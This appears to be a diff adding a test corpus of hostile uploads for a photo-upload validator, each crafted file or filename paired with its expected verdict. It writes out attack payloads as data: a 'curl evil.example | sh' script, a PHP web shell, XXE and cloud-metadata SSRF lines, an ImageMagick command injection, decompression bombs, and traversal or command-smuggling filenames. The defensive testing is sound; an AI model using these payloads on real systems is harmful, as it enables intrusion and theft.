@@ -1,0 +1,251 @@
+"""The corpus of hostile photographs 坏图片: each with the verdict it must get, KEPT (drawn anew) or the refusal's code.
+
+Everything is made here; nothing of it is anybody's photograph.
+"""
+
+from __future__ import annotations
+
+import gzip
+import lzma
+import pickle
+import struct
+import zlib
+from typing import TYPE_CHECKING
+
+from tests.abuse.pictures import (
+    CANARY,
+    SCRIPT,
+    SIGNATURE,
+    bmp_of,
+    canvas,
+    chunk,
+    declared,
+    exif,
+    jpeg_of,
+    moving,
+    noted,
+    picture,
+    png,
+    riff,
+    rows,
+    tiff_of,
+    unreadable_exif,
+    with_segment,
+    zipped,
+)
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    Made = Callable[[], bytes]
+
+KEPT, NONE, EMPTY = "kept", "photo.not_a_photo", "empty"
+LARGE, PIXELS = "photo.too_large", "photo.too_many_pixels"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
+BOMB, MOST = 30_000_000, 10 * 1024 * 1024
+BOX = b"\0\0\0\x18ftyp"
+
+NO_PICTURES: dict[str, Made] = {
+    "text": lambda: b"no picture",
+    "text in utf-16": lambda: "no picture".encode("utf-16"),
+    "zeros": lambda: bytes(4096),
+    "every byte": lambda: bytes(range(256)) * 40,
+    "html named as a photograph": lambda: b"<html>" + SCRIPT + b"</html>",
+    "html after a byte order mark": lambda: b"\xef\xbb\xbf<!doctype html>" + SCRIPT,
+    "mhtml": lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
+    "svg with script": lambda: SVG,
+    "svg with script, gzipped": lambda: gzip.compress(SVG),
+    "svg with entities": lambda: b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg/>',
+    "svg that loads from elsewhere": lambda: b'<svg><image href="http://169.254.169.254/latest/meta-data"/></svg>',
+    "magick vector graphics": lambda: b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.jpg\"|ls\"'\n",
+    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
+    "pdf with script": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
+    "gif": lambda: picture("GIF", mode="P"),
+    "gif of a thousand frames": lambda: moving("GIF", 1000, size=(2, 2)),
+    "gif that is a script": lambda: b"GIF89a/*" + SCRIPT + b"*/=1;",
+    "gif with a screen of four gigapixels": lambda: b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + b";",
+    "tiff": lambda: picture("TIFF"),
+    "tiff of four gigapixels": lambda: tiff_of(65_000, 65_000),
+    "bmp": lambda: picture("BMP"),
+    "bmp of the largest number": lambda: bmp_of(2**31 - 1, 2**31 - 1),
+    "bmp upside down without end": lambda: bmp_of(64, -(2**31)),
+    "ico": lambda: picture("ICO"),
+    "icns": lambda: picture("ICNS", mode="RGBA", size=(16, 16)),
+    "avif": lambda: picture("AVIF"),
+    "heic": lambda: BOX + b"heic\0\0\0\0mif1heic" + b"\0" * 64,
+    "jpeg 2000": lambda: picture("JPEG2000"),
+    "jpeg xl": lambda: b"\0\0\0\x0cJXL \r\n\x87\n" + b"\0" * 64,
+    "tga": lambda: picture("TGA"),
+    "pcx": lambda: picture("PCX"),
+    "ppm": lambda: picture("PPM"),
+    "ppm of ten gigapixels": lambda: b"P6 100000 100000 255\n",
+    "sgi": lambda: picture("SGI"),
+    "dds": lambda: picture("DDS"),
+    "qoi": lambda: picture("QOI"),
+    "xbm that is C": lambda: b"#define a_width 9\n#define a_height 9\nstatic char a_bits[] = {0};",
+    "psd": lambda: b"8BPS\0\x01" + b"\0" * 64,
+    "wmf": lambda: b"\xd7\xcd\xc6\x9a" + b"\0" * 64,
+    "camera's raw": lambda: b"II*\0\x10\0\0\0CR\x02\0" + b"\0" * 64,
+    "mp4": lambda: BOX + b"mp42\0\0\0\0isommp42" + b"\0" * 64,
+    "quicktime": lambda: BOX + b"qt  \0\0\0\0qt  " + b"\0" * 64,
+    "matroska": lambda: b"\x1aE\xdf\xa3" + b"\0" * 64,
+    "playlist": lambda: b"#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data\n",
+    "mp3": lambda: b"ID3\x04\0\0\0\0\0\0" + b"\0" * 64,
+    "wav in the family of webp": lambda: riff(b"WAVE", (b"fmt ", b"\0" * 16)),
+    "test virus": lambda: rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
+    "program of windows": lambda: b"MZ" + b"\x90" * 200,
+    "program of linux": lambda: b"\x7fELF" + b"\0" * 200,
+    "program of the java machine": lambda: b"\xca\xfe\xba\xbe\0\0\0\x37" + b"\0" * 64,
+    "web assembly": lambda: b"\0asm\x01\0\0\0",
+    "shell script": lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
+    "php": lambda: b"<?php system($_GET[0]);",
+    "pickle": lambda: pickle.dumps({"a": 1}),
+    "zip": lambda: zipped(a=b"a"),
+    "zip of many zeros": lambda: zipped(**{"a.jpg": bytes(BOMB)}),
+    "docx": lambda: zipped(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
+    "workbook with macros": lambda: zipped(**{"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"\0"}),
+    "old office file": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 1000,
+    "rtf": lambda: rb"{\rtf1{\object\objemb}}",
+    "rar": lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 64,
+    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 64,
+    "gzip of many zeros": lambda: gzip.compress(bytes(BOMB)),
+    "xz of many zeros": lambda: lzma.compress(bytes(BOMB)),
+    "database": lambda: b"SQLite format 3\0" + b"\0" * 84,
+    "photograph in base64": lambda: b"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==",
+    "photograph after one byte": lambda: b"\n" + picture(),
+    "png after line ends were changed": lambda: picture("PNG").replace(b"\r\n", b"\n"),
+}
+DAMAGED: dict[str, tuple[Made, str]] = {
+    "nothing": (lambda: b"", EMPTY),
+    "jpeg head alone": (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF", NONE),
+    "jpeg of a beginning and an end": (lambda: b"\xff\xd8\xff\xd9", NONE),
+    "half a jpeg": (lambda: picture(size=(800, 600))[:900], NONE),
+    "jpeg with a table cut out": (lambda: picture().replace(b"\xff\xdb", b"\xff\xfe", 2), NONE),
+    "jpeg without width": (lambda: jpeg_of(0, 48), NONE),
+    "jpeg of four gigapixels": (lambda: jpeg_of(65_500, 65_500), NONE),
+    "jpeg of sixty-five megapixels": (lambda: jpeg_of(65_500, 1000), PIXELS),
+    "jpeg larger than its pixels": (lambda: jpeg_of(6400, 4800), KEPT),
+    "notes of a camera that cannot be written again": (lambda: picture(exif=unreadable_exif()), NONE),
+    "half a png": (lambda: picture("PNG", size=(800, 600))[:60], NONE),
+    "png signature alone": (lambda: SIGNATURE, NONE),
+    "png without pixels": (png, NONE),
+    "png without an end": (lambda: png(rows())[:-12], KEPT),
+    "png with a false checksum of its head": (
+        lambda: SIGNATURE + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0), check=1) + rows(),
+        NONE,
+    ),
+    "png with a false checksum of its pixels": (lambda: png(chunk(b"IDAT", rows()[8:-4], check=1)), KEPT),
+    "png whose pixels are not compressed": (lambda: png(chunk(b"IDAT", b"\0" * 200)), NONE),
+    "png with fewer rows than told": (lambda: png(rows(8, 3)), KEPT),
+    "png with thirty megabytes behind its pixels": (lambda: png(rows(more=BOMB)), KEPT),
+    "png without width": (lambda: declared(0, 10), NONE),
+    "png of a depth that is none": (lambda: png(rows(), depth=3), NONE),
+    "png of a colour that is none": (lambda: png(rows(), colour=9), NONE),
+    "png of an interlace that is none": (lambda: png(rows(), interlace=7), NONE),
+    "png of colours from a table that is not there": (lambda: png(rows(), colour=3), NONE),
+    "png with a second head": (
+        lambda: png(chunk(b"IHDR", struct.pack(">IIBBBBB", 9000, 9000, 8, 2, 0, 0, 0)), rows()),
+        PIXELS,
+    ),
+    "png with a chunk longer than the file": (lambda: png(struct.pack(">I", 2**31 - 1) + b"tEXt", rows()), NONE),
+    "png with a critical chunk nobody knows": (lambda: png(chunk(b"EVIL", b"\0"), rows()), KEPT),
+    "png with words of thirty megabytes packed": (
+        lambda: png(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(BOMB), 9)), rows()),
+        NONE,
+    ),
+    "png with a profile of thirty megabytes packed": (
+        lambda: png(chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(BOMB), 9)), rows()),
+        NONE,
+    ),
+    "png of one pixel too many": (lambda: declared(50_000_001, 1), PIXELS),
+    "png of a hundred megapixels": (lambda: declared(10_000, 10_000), PIXELS),
+    "png of sixty thousand squared": (lambda: declared(60_000, 60_000), NONE),
+    "png of the largest number": (lambda: declared(2**31 - 1, 2**31 - 1), NONE),
+    "half a webp": (lambda: picture("WEBP", size=(800, 600))[:60], NONE),
+    "webp head alone": (lambda: riff(b"WEBP"), NONE),
+    "webp whose length lies": (lambda: picture("WEBP")[:4] + b"\xff\xff\xff\x7f" + picture("WEBP")[8:], NONE),
+    "webp of a canvas of sixteen thousand squared": (lambda: canvas(16_383, 16_383), NONE),
+    "more than ten megabytes": (lambda: picture() + bytes(MOST), LARGE),
+}
+CARRYING: dict[str, Made] = {
+    "ten megabytes exactly": lambda: picture() + bytes(MOST - len(picture())),
+    "script after a jpeg": lambda: picture() + SCRIPT,
+    "html in two comments of a jpeg": lambda: with_segment(0xFE, b"<html>" + SCRIPT + CANARY, times=2),
+    "zip after a jpeg": lambda: picture() + zipped(**{"evil.html": SCRIPT}),
+    "java archive after a png": lambda: picture("PNG") + zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: Evil"}),
+    "pdf after a jpeg": lambda: picture() + b"%PDF-1.7\n" + CANARY,
+    "film after a jpeg": lambda: picture() + BOX + b"mp42" + CANARY,
+    "php after a png": lambda: picture("PNG") + b"<?php system($_GET[0]);",
+    "second picture after a jpeg": lambda: picture() + picture(comment=CANARY),
+    "two pictures in one": lambda: moving("MPO"),
+    "script in a jpeg's comment": lambda: picture(comment=SCRIPT),
+    "two hundred segments of a camera": lambda: with_segment(0xEB, CANARY, times=200),
+    "segment of the greatest length": lambda: with_segment(0xFE, CANARY * 3000),
+    "place, serial and owner in a jpeg": lambda: picture(exif=exif()),
+    "place, serial and owner in a png": lambda: picture("PNG", exif=exif()),
+    "place, serial and owner in a webp": lambda: picture("WEBP", exif=exif()),
+    "author by the rules of the press": lambda: with_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\x20" + CANARY),
+    "packet of xmp with a place": lambda: with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY),
+    "script in a webp's xmp": lambda: picture("WEBP", xmp=SCRIPT + CANARY),
+    "words in a png": lambda: picture("PNG", pnginfo=noted()),
+    "packed words in a png": lambda: picture("PNG", pnginfo=noted(is_packed=True)),
+    "chunk of one's own in a png": lambda: png(chunk(b"caNa", CANARY), rows()),
+    "profile of colours that is none": lambda: picture(icc_profile=SCRIPT * 20),
+    "profile of colours of one byte": lambda: picture("PNG", icc_profile=b"\0"),
+    "profile of colours in two thousand parts": lambda: with_segment(
+        0xE2, b"ICC_PROFILE\0\x01\xff" + CANARY, times=300
+    ),
+    "four inks": lambda: picture(mode="CMYK"),
+    "grey": lambda: picture(mode="L"),
+    "one bit": lambda: picture("PNG", mode="1"),
+    "colours from a table": lambda: picture("PNG", mode="P", transparency=1),
+    "transparent": lambda: picture("PNG", mode="RGBA"),
+    "grey and transparent": lambda: picture("PNG", mode="LA"),
+    "sixteen bits": lambda: picture("PNG", mode="I;16"),
+    "transparent webp": lambda: picture("WEBP", mode="RGBA"),
+    "moving png": lambda: moving("PNG"),
+    "moving webp": lambda: moving("WEBP"),
+    "in passes": lambda: picture(progressive=True),
+    "one pixel": lambda: picture(size=(1, 1)),
+    "thinner than a hair": lambda: picture("PNG", size=(1, 60_000)),
+    "on its side": lambda: picture(exif=exif(turn=6)),
+    "turned in a way that is none": lambda: picture(exif=exif(turn=99)),
+    "notes of a camera that lead round": lambda: picture(
+        exif=b"Exif\0\0II*\0\x08\0\0\0\x01\0" + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
+    ),
+}
+CORPUS: dict[str, tuple[Made, str]] = {
+    **{name: (made, NONE) for name, made in NO_PICTURES.items()},
+    **DAMAGED,
+    **{name: (made, KEPT) for name, made in CARRYING.items()},
+}
+NAMES: dict[str, str] = {
+    "up the folders": "../../../../huying-evil.jpg",
+    "up the folders of windows": "..\\..\\evil.jpg",
+    "from the root": "/etc/cron.d/evil",
+    "of another machine": "\\\\evil.example\\share\\evil.jpg",
+    "with a nought byte": "a\x00evil.jpg",
+    "with a line end": "a\r\nSet-Cookie: evil=1.jpg",
+    "written from the right": "电梯\u202egpj.evil.exe",
+    "of two endings": "evil.php.jpg",
+    "of another ending": "evil.svg",
+    "of no ending": "evil",
+    "of nothing but dots": "...",
+    "of a device": "CON.jpg",
+    "with a stream": "evil.jpg::$DATA",
+    "with markup": "<img src=x onerror=alert(1)>.jpg",
+    "with a command": "$(touch evil).jpg",
+    "with a wildcard": "*evil?.jpg",
+    "of four hundred characters": "电" * 400 + ".jpg",
+    "in rare characters": "𠮷𡈽evil.jpg",
+    "percent encoded": "%2e%2e%2fevil.jpg",
+}
+KINDS = (
+    "text/html",
+    "image/svg+xml",
+    "application/x-php",
+    "application/octet-stream",
+    "image/jpeg; charset=utf-7",
+    "a",
+)
+"""Content types somebody may declare; none is believed."""
